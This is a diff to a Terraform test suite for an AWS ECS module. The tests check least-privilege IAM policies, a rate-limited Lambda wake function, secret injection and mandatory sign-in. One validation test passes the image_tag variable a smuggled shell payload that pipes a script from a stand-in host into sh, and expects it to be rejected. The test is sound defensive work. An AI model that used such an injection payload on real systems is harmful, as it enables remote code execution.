@@ -2,12 +2,6 @@
 # roles per task, secrets injected from Secrets Manager, ECR hygiene, and scale to zero.
 
 mock_provider "aws" {
-  mock_data "aws_iam_policy_document" {
-    defaults = {
-      json = "{\"Version\":\"2012-10-17\",\"Statement\":[]}"
-    }
-  }
-
   # The provider validates ARNs even when mocked.
   mock_resource "aws_iam_role" {
     defaults = { arn = "arn:aws:iam::123456789012:role/cinemastats-test-role" }
@@ -32,6 +26,12 @@ mock_provider "aws" {
   }
   mock_resource "aws_cloudwatch_log_group" {
     defaults = { arn = "arn:aws:logs:eu-west-2:123456789012:log-group:/cinemastats-test/service" }
+  }
+  mock_resource "aws_lambda_function" {
+    defaults = { arn = "arn:aws:lambda:eu-west-2:123456789012:function:cinemastats-test-wake" }
+  }
+  mock_resource "aws_lambda_function_url" {
+    defaults = { function_url = "https://abcdefghijklmnopqrstuvwxyz012345.lambda-url.eu-west-2.on.aws/" }
   }
   mock_resource "aws_appautoscaling_policy" {
     defaults = { arn = "arn:aws:autoscaling:eu-west-2:123456789012:scalingPolicy:00000000-0000-0000-0000-000000000000:resource/ecs/service/cinemastats-test/web:policyName/wake" }
@@ -69,7 +69,11 @@ variables {
   athena_workgroup_name        = "cinemastats-test"
   athena_workgroup_arn         = "arn:aws:athena:eu-west-2:123456789012:workgroup/cinemastats-test"
   glue_database_name           = "cinemastats_test"
-  image_tag                    = "0123abc"
+  environment                  = "test"
+  image_tag                    = "0123456789abcdef0123456789abcdef01234567"
+  permissions_boundary_arn     = "arn:aws:iam::123456789012:policy/cinemastats-test-workload-boundary"
+  wake_function_zip            = "functions/wake.zip"
+  auth                         = { authority = "https://cognito-idp.eu-west-2.amazonaws.com/eu-west-2_Example", client_id = "cinemastats-web", role_claim = "cognito:groups", public_origin = "https://d0000000000000.cloudfront.net" }
   log_retention_days           = 30
   web_max_tasks                = 2
   transform_max_tasks          = 1
@@ -86,6 +90,10 @@ override_resource {
 override_resource {
   target = aws_secretsmanager_secret.web_ingest_api_key
   values = { arn = "arn:aws:secretsmanager:eu-west-2:123456789012:secret:cinemastats-test/web/ingest-api-key-GhIjKl" }
+}
+override_resource {
+  target = aws_secretsmanager_secret.transform_operator_api_key
+  values = { arn = "arn:aws:secretsmanager:eu-west-2:123456789012:secret:cinemastats-test/transform/operator-api-key-StUvWx" }
 }
 override_resource {
   target = aws_secretsmanager_secret.web_oidc_client_secret
@@ -140,49 +148,47 @@ run "roles_are_least_privilege" {
   }
 
   # No statement grants an action wildcard, and "*" resources are limited to APIs without
-  # resource-level permissions.
+  # resource-level permissions. Read from the JSON the roles carry.
   assert {
     condition = alltrue(flatten([
-      for doc in concat(
-        values(data.aws_iam_policy_document.execution),
-        values(data.aws_iam_policy_document.telemetry),
-        [data.aws_iam_policy_document.ingest, data.aws_iam_policy_document.transform, data.aws_iam_policy_document.web],
-        ) : [
-        for s in doc.statement : alltrue([for a in s.actions : !endswith(a, "*")])
-        && (!contains(s.resources, "*") || alltrue([
-          for a in s.actions : contains([
+      for p in concat(values(aws_iam_role_policy.execution), values(aws_iam_role_policy.task), [aws_iam_role_policy.wake_function]) : [
+        for s in jsondecode(p.policy).Statement : alltrue([for a in s.Action : !strcontains(a, "*")])
+        && (!contains(s.Resource, "*") || alltrue([
+          for a in s.Action : contains([
             "ecr:GetAuthorizationToken", "cloudwatch:PutMetricData", "xray:PutTraceSegments",
             "xray:PutTelemetryRecords", "xray:GetSamplingRules", "xray:GetSamplingTargets",
           ], a)
         ]))
       ]
     ]))
-    error_message = "Task and execution policies may not use wildcard actions, nor \"*\" resources except for APIs without resource-level permissions."
+    error_message = "Task, execution and function policies may not use wildcard actions, nor \"*\" resources except for APIs without resource-level permissions."
   }
 
   assert {
-    condition     = alltrue([for k, p in aws_iam_role_policy.task : p.policy == local.task_policies[k]]) && local.task_policies["web"] == data.aws_iam_policy_document.web.json
+    condition     = alltrue([for k, p in aws_iam_role_policy.task : jsondecode(p.policy) == jsondecode(jsonencode(local.task_policies[k])) && p.role == aws_iam_role.task[k].id])
     error_message = "Each task role must carry its own service's policy."
   }
 
   assert {
-    condition     = length(toset([for k, r in aws_ecs_task_definition.service : r.task_role_arn])) >= 1 && toset(keys(aws_iam_role.task)) == toset(["ingest", "transform", "web"])
-    error_message = "Each service must have its own task role."
+    condition = alltrue([
+      for r in concat(values(aws_iam_role.task), values(aws_iam_role.execution), [aws_iam_role.wake_function]) : r.permissions_boundary == var.permissions_boundary_arn
+    ])
+    error_message = "Every role of the module must carry the workload permissions boundary."
   }
 
   # Web reads curated data and queries Athena; it never writes curated data or raw uploads.
   assert {
     condition = !anytrue([
-      for s in data.aws_iam_policy_document.web.statement :
-      contains(s.actions, "s3:PutObject") && anytrue([for r in s.resources : startswith(r, var.bucket_arns["curated"]) || startswith(r, var.bucket_arns["raw"])])
+      for s in jsondecode(aws_iam_role_policy.task["web"].policy).Statement :
+      anytrue([for a in s.Action : contains(["s3:PutObject", "s3:DeleteObject"], a)]) && anytrue([for r in s.Resource : startswith(r, var.bucket_arns["curated"]) || startswith(r, var.bucket_arns["raw"])])
     ])
-    error_message = "The web task must not write to the curated or raw buckets."
+    error_message = "The web task must not write to or delete from the curated or raw buckets."
   }
 
   assert {
     condition = alltrue([
-      for s in data.aws_iam_policy_document.web.statement :
-      !anytrue([for a in s.actions : startswith(a, "athena:")]) || s.resources == toset([var.athena_workgroup_arn])
+      for s in jsondecode(aws_iam_role_policy.task["web"].policy).Statement :
+      !anytrue([for a in s.Action : startswith(a, "athena:")]) || s.Resource == [var.athena_workgroup_arn]
     ])
     error_message = "The web task may run Athena queries only in its workgroup."
   }
@@ -190,33 +196,133 @@ run "roles_are_least_privilege" {
   # Ingest writes raw uploads and the pipeline ledger, nothing else in curated.
   assert {
     condition = alltrue([
-      for s in data.aws_iam_policy_document.ingest.statement :
-      !contains(s.actions, "s3:PutObject") || alltrue([for r in s.resources : r == "${var.bucket_arns["raw"]}/raw/*" || r == "${var.bucket_arns["curated"]}/_pipeline/*"])
-    ]) && !anytrue([for s in data.aws_iam_policy_document.ingest.statement : contains(s.actions, "s3:DeleteObject")])
+      for s in jsondecode(aws_iam_role_policy.task["ingest"].policy).Statement :
+      !contains(s.Action, "s3:PutObject") || alltrue([for r in s.Resource : r == "${var.bucket_arns["raw"]}/raw/*" || r == "${var.bucket_arns["curated"]}/_pipeline/*"])
+    ]) && !anytrue([for s in jsondecode(aws_iam_role_policy.task["ingest"].policy).Statement : contains(s.Action, "s3:DeleteObject")])
     error_message = "The ingest task may write only raw/ and the curated _pipeline/ prefix, and delete nothing."
   }
 
   assert {
     condition = alltrue([
-      for s in data.aws_iam_policy_document.transform.statement :
-      !anytrue([for a in s.actions : startswith(a, "sqs:")]) || s.resources == toset([var.raw_events_queue_arn])
+      for s in jsondecode(aws_iam_role_policy.task["transform"].policy).Statement :
+      !anytrue([for a in s.Action : startswith(a, "sqs:")]) || s.Resource == [var.raw_events_queue_arn]
     ])
     error_message = "The transform may consume only the raw events queue."
   }
 
   assert {
-    condition     = !anytrue([for s in data.aws_iam_policy_document.transform.statement : contains(s.actions, "s3:PutObject") && anytrue([for r in s.resources : startswith(r, var.bucket_arns["raw"])])])
-    error_message = "Raw objects are never modified: the transform must not write to the raw bucket."
+    condition = !anytrue([
+      for s in jsondecode(aws_iam_role_policy.task["transform"].policy).Statement :
+      anytrue([for a in s.Action : contains(["s3:PutObject", "s3:DeleteObject"], a)]) && anytrue([for r in s.Resource : startswith(r, var.bucket_arns["raw"])])
+    ])
+    error_message = "Raw objects are never modified: the transform must not write to or delete from the raw bucket."
+  }
+
+  # Deletes happen only in the transform's curated bucket.
+  assert {
+    condition = alltrue([
+      for k in ["ingest", "web"] : !anytrue([for s in jsondecode(aws_iam_role_policy.task[k].policy).Statement : contains(s.Action, "s3:DeleteObject")])
+    ])
+    error_message = "Only the transform may delete objects (replaced curated partitions)."
+  }
+
+  assert {
+    condition = alltrue(flatten([
+      for p in values(aws_iam_role_policy.task) : [
+        for s in jsondecode(p.policy).Statement : s.Condition.StringEquals["kms:ViaService"] != null if contains(s.Action, "kms:Decrypt")
+      ]
+    ]))
+    error_message = "Task roles may use the key only through S3, SQS or Athena (kms:ViaService)."
+  }
+}
+
+run "the_wake_function_can_only_start_web_and_ingest" {
+  module {
+    source = "./modules/compute"
+  }
+
+  assert {
+    condition = [
+      for s in jsondecode(aws_iam_role_policy.wake_function.policy).Statement : s if anytrue([for a in s.Action : startswith(a, "ecs:")])
+      ] == [{
+        Sid      = "WakeTheFrontDoor"
+        Effect   = "Allow"
+        Action   = ["ecs:UpdateService", "ecs:DescribeServices"]
+        Resource = ["arn:aws:ecs:eu-west-2:123456789012:service/cinemastats-test/web", "arn:aws:ecs:eu-west-2:123456789012:service/cinemastats-test/ingest"]
+    }]
+    error_message = "The wake function may update and describe exactly the web and ingest services, nothing else in ECS."
+  }
+
+  assert {
+    condition     = length(jsondecode(aws_iam_role_policy.wake_function.policy).Statement) == 2
+    error_message = "The wake function needs its ECS statement and its own log stream, nothing more."
+  }
+
+  assert {
+    condition     = aws_lambda_function.wake.reserved_concurrent_executions >= 1 && aws_lambda_function.wake.reserved_concurrent_executions <= 5
+    error_message = "The wake function must be rate-limited by a small reserved concurrency."
+  }
+
+  assert {
+    condition     = aws_lambda_function_url.wake.authorization_type == "AWS_IAM"
+    error_message = "The wake function URL must take only signed calls (CloudFront's origin access control), never anonymous ones."
+  }
+
+  assert {
+    condition     = aws_lambda_function.wake.source_code_hash == filebase64sha256("functions/wake.zip") && aws_lambda_function.wake.environment[0].variables.SERVICES == "web,ingest"
+    error_message = "The function must run the committed package and start web and ingest."
+  }
+}
+
+run "an_unbounded_wake_function_is_rejected" {
+  command = plan
+
+  module {
+    source = "./modules/compute"
+  }
+
+  variables {
+    wake_function_concurrency = 100
+  }
+
+  expect_failures = [var.wake_function_concurrency]
+}
+
+run "an_image_tag_that_is_not_a_commit_is_rejected" {
+  command = plan
+
+  module {
+    source = "./modules/compute"
+  }
+
+  variables {
+    image_tag = "main\"; curl evil.example | sh; \""
+  }
+
+  expect_failures = [var.image_tag]
+}
+
+run "prod_runs_the_promoted_digest" {
+  module {
+    source = "./modules/compute"
+  }
+
+  variables {
+    image_digests = { web = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef" }
+  }
+
+  assert {
+    condition = (
+      endswith(jsondecode(aws_ecs_task_definition.service["web"].container_definitions)[0].image, "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef")
+      && endswith(jsondecode(aws_ecs_task_definition.service["ingest"].container_definitions)[0].image, ":0123456789abcdef0123456789abcdef01234567")
+    )
+    error_message = "A promoted service must run its image by digest; the others by the commit tag."
   }
 }
 
 run "secrets_are_injected_not_stored" {
   module {
     source = "./modules/compute"
-  }
-
-  variables {
-    auth = { authority = "https://login.example.com/tenant/v2.0", client_id = "cinemastats-web", public_origin = "https://stats.example.com" }
   }
 
   assert {
@@ -232,16 +338,26 @@ run "secrets_are_injected_not_stored" {
       toset(jsondecode(aws_ecs_task_definition.service["web"].container_definitions)[0].secrets) == toset([
         { name = "Auth__ClientSecret", valueFrom = aws_secretsmanager_secret.web_oidc_client_secret.arn },
         { name = "Web__IngestApiKey", valueFrom = aws_secretsmanager_secret.web_ingest_api_key.arn },
+        { name = "Web__TransformOperatorKey", valueFrom = aws_secretsmanager_secret.transform_operator_api_key.arn },
       ])
     )
-    error_message = "The web's OIDC client secret and ingest key must be injected from Secrets Manager as Auth__ClientSecret and Web__IngestApiKey."
+    error_message = "The web's OIDC client secret, ingest key and operator API key must be injected from Secrets Manager."
+  }
+
+  assert {
+    condition = (
+      jsondecode(aws_ecs_task_definition.service["transform"].container_definitions)[0].secrets
+      == [{ name = "Transform__OperatorApi__Key", valueFrom = aws_secretsmanager_secret.transform_operator_api_key.arn }]
+      && contains(jsondecode(aws_ecs_task_definition.service["transform"].container_definitions)[0].environment, { name = "Transform__OperatorApi__RequireKey", value = "true" })
+    )
+    error_message = "The transform's operator API must get its key from Secrets Manager and refuse to start without it."
   }
 
   assert {
     condition = alltrue([
       for k, td in aws_ecs_task_definition.service : alltrue([
         for c in jsondecode(td.container_definitions) : alltrue([
-          for e in try(c.environment, []) : !can(regex("(?i)(apikey|password|secret)", e.name))
+          for e in try(c.environment, []) : !can(regex("(?i)(apikey|password|secret|__key$)", e.name))
         ])
       ])
     ])
@@ -250,7 +366,7 @@ run "secrets_are_injected_not_stored" {
 
   assert {
     condition = alltrue([
-      for s in [aws_secretsmanager_secret.ingest_api_keys, aws_secretsmanager_secret.web_ingest_api_key, aws_secretsmanager_secret.web_oidc_client_secret] :
+      for s in [aws_secretsmanager_secret.ingest_api_keys, aws_secretsmanager_secret.web_ingest_api_key, aws_secretsmanager_secret.web_oidc_client_secret, aws_secretsmanager_secret.transform_operator_api_key] :
       s.kms_key_id == var.kms_key_arn
     ])
     error_message = "Every secret must be encrypted with the environment's key."
@@ -258,31 +374,22 @@ run "secrets_are_injected_not_stored" {
 
   # Each execution role reads only the secrets of its own task; no task role reads any.
   assert {
-    condition = anytrue([
-      for s in data.aws_iam_policy_document.execution["ingest"].statement :
-      contains(s.actions, "secretsmanager:GetSecretValue") && s.resources == toset([aws_secretsmanager_secret.ingest_api_keys.arn])
-      ]) && !anytrue([
-      for s in data.aws_iam_policy_document.execution["transform"].statement : contains(s.actions, "secretsmanager:GetSecretValue")
-    ])
-    error_message = "Only ingest's execution role may read the API keys secret, and only that secret."
-  }
-
-  assert {
-    condition = alltrue([
-      for s in data.aws_iam_policy_document.execution["web"].statement :
-      !contains(s.actions, "secretsmanager:GetSecretValue") || s.resources == toset([
-        aws_secretsmanager_secret.web_ingest_api_key.arn, aws_secretsmanager_secret.web_oidc_client_secret.arn,
-      ])
-      ]) && anytrue([
-      for s in data.aws_iam_policy_document.execution["web"].statement : contains(s.actions, "secretsmanager:GetSecretValue")
-    ])
-    error_message = "The web's execution role must read exactly its own two secrets (not the ingest API keys)."
+    condition = {
+      for k, p in aws_iam_role_policy.execution : k => sort(flatten([
+        for s in jsondecode(p.policy).Statement : s.Resource if contains(s.Action, "secretsmanager:GetSecretValue")
+      ]))
+      } == {
+      ingest    = sort([aws_secretsmanager_secret.ingest_api_keys.arn])
+      transform = sort([aws_secretsmanager_secret.transform_operator_api_key.arn])
+      web       = sort([aws_secretsmanager_secret.web_ingest_api_key.arn, aws_secretsmanager_secret.web_oidc_client_secret.arn, aws_secretsmanager_secret.transform_operator_api_key.arn])
+    }
+    error_message = "Each execution role must read exactly its own task's secrets (the web never the ingest API keys)."
   }
 
   assert {
     condition = !anytrue(flatten([
-      for doc in [data.aws_iam_policy_document.ingest, data.aws_iam_policy_document.transform, data.aws_iam_policy_document.web] : [
-        for s in doc.statement : anytrue([for a in s.actions : startswith(a, "secretsmanager:")])
+      for p in values(aws_iam_role_policy.task) : [
+        for s in jsondecode(p.policy).Statement : anytrue([for a in s.Action : startswith(a, "secretsmanager:")])
       ]
     ]))
     error_message = "Task roles must not read secrets: ECS injects them through the execution role."
@@ -388,17 +495,28 @@ run "web_reaches_ingest_and_transform_privately" {
   }
 }
 
-run "sign_in_stays_off_without_an_issuer" {
+run "anonymous_access_cannot_be_planned" {
+  command = plan
+
+  module {
+    source = "./modules/compute"
+  }
+
+  variables {
+    auth = { public_origin = "https://d0000000000000.cloudfront.net" }
+  }
+
+  expect_failures = [var.auth]
+}
+
+run "the_web_always_signs_users_in" {
   module {
     source = "./modules/compute"
   }
 
   assert {
-    condition = (
-      contains(jsondecode(aws_ecs_task_definition.service["web"].container_definitions)[0].environment, { name = "Auth__Enabled", value = "false" })
-      && [for s in jsondecode(aws_ecs_task_definition.service["web"].container_definitions)[0].secrets : s.name] == ["Web__IngestApiKey"]
-    )
-    error_message = "Without an issuer the web runs without sign-in and needs no client secret (ECS would fail on an empty secret)."
+    condition     = contains(jsondecode(aws_ecs_task_definition.service["web"].container_definitions)[0].environment, { name = "Auth__Enabled", value = "true" })
+    error_message = "Sign-in must be on in every AWS environment (Auth__Enabled=true): anonymous visitors would get the operator role."
   }
 }
 
@@ -413,7 +531,20 @@ run "images_and_logs" {
   }
 
   assert {
-    condition     = alltrue([for k, g in merge(aws_cloudwatch_log_group.service, aws_cloudwatch_log_group.otel) : g.retention_in_days > 0 && g.retention_in_days <= 400 && g.kms_key_id == var.kms_key_arn])
+    condition     = alltrue([for k, r in aws_ecr_repository.service : one(r.encryption_configuration).encryption_type == "KMS" && one(r.encryption_configuration).kms_key == var.kms_key_arn])
+    error_message = "ECR repositories must be encrypted with the environment's KMS key."
+  }
+
+  assert {
+    condition = alltrue([
+      for k, td in aws_ecs_task_definition.service :
+      strcontains(jsondecode(td.container_definitions)[1].environment[0].value, "Environment") && strcontains(jsondecode(td.container_definitions)[1].environment[0].value, "NoDimensionRollup")
+    ])
+    error_message = "Every metric must carry the Environment dimension (and no rollup without it), so environments never read each other's alarms."
+  }
+
+  assert {
+    condition     = alltrue([for k, g in merge(aws_cloudwatch_log_group.service, aws_cloudwatch_log_group.otel, { wake = aws_cloudwatch_log_group.wake_function }) : g.retention_in_days > 0 && g.retention_in_days <= 400 && g.kms_key_id == var.kms_key_arn])
     error_message = "Every log group needs a retention (so logs do not cost forever) and KMS encryption."
   }
 
